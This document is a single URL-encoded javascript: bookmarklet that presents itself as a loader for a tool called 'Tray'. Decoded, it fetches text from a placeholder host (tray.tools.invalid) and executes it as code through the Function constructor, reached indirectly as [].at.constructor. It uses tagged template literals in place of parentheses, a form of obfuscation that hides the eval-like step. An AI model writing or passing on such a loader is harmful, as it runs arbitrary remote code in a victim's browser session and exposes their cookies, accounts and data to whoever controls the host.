javascript:fetch%60https%3A%2F%2Ftray.tools.invalid%2Fv1%60.then(r%3D%3Er.text()).then(t%3D%3E%5B%5D.at.constructor(t)%60%60).catch(_%3D%3Ealert%60Tray%20is%20offline%60)
